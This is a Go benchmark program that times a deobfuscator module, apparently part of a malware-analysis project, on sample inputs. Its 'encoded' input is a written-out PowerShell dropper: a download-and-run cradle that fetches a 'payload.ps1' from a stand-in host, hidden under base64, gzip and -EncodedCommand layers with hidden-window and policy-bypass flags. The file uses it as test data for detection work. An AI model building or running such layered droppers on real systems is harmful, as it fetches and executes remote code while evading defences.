// Command wasmbench times the deobfuscator module's Analyze on fixed inputs and prints one
// "<name> <bytes> <seconds>" line per input. Built for wasip1 it measures the module's code inside
// a WASM runtime without the ABI copy; built natively it gives the comparison.
// BenchmarkWASMComponents builds and runs it.
package main

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"
	"unicode/utf16"

	"github.com/athena-mesh/athena/wasm-modules/deobfuscator"
	modulev1 "github.com/athena-mesh/athena/wasm-modules/internal/gen/athena/module/v1"
)

func main() {
	part, reps := "all", 5
	if len(os.Args) > 1 {
		part = os.Args[1]
	}
	if len(os.Args) > 2 {
		n, err := strconv.Atoi(os.Args[2])
		if err != nil || n <= 0 {
			fmt.Fprintln(os.Stderr, "usage: wasmbench [plain|encoded|tiny|all] [repetitions]")
			os.Exit(2)
		}
		reps = n
	}
	para := "The quick brown fox jumps over the lazy dog while the analyst reads the report, twice. "
	inputs := map[string][]byte{
		"plain":   []byte(strings.Repeat(para, (8<<20)/len(para))),
		"encoded": []byte(layered()),
		"tiny":    []byte("$u = 'ht'+'tp://x.example.com'"),
	}
	m := deobfuscator.New()
	for _, name := range []string{"plain", "encoded", "tiny"} {
		if part != "all" && part != name {
			continue
		}
		in := inputs[name]
		start := time.Now()
		for range reps {
			if _, err := m.Analyze(&modulev1.AnalyzeRequest{Content: in}); err != nil {
				fmt.Fprintln(os.Stderr, err)
				os.Exit(1)
			}
		}
		// name, bytes searched, seconds
		fmt.Printf("%s %d %.6f\n", name, reps*len(in), time.Since(start).Seconds())
	}
}

// layered is a PowerShell dropper under four layers: -EncodedCommand (base64 of UTF-16LE),
// a gzip cradle, base64 and string concatenation.
func layered() string {
	inner := `$u = 'http://dl.athena-test.xyz/st'+"age3/pay"+'load.ps1'; IEX (New-Object Net.WebClient).DownloadString($u)`
	l3 := `IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('` + b64([]byte(inner)) + `')))`
	var gz bytes.Buffer
	w := gzip.NewWriter(&gz)
	w.Write([]byte(l3))
	w.Close()
	l2 := `IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('` +
		b64(gz.Bytes()) + `'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`
	var u16 []byte
	for _, u := range utf16.Encode([]rune(l2)) {
		u16 = append(u16, byte(u), byte(u>>8))
	}
	return "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc " + b64(u16)
}

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
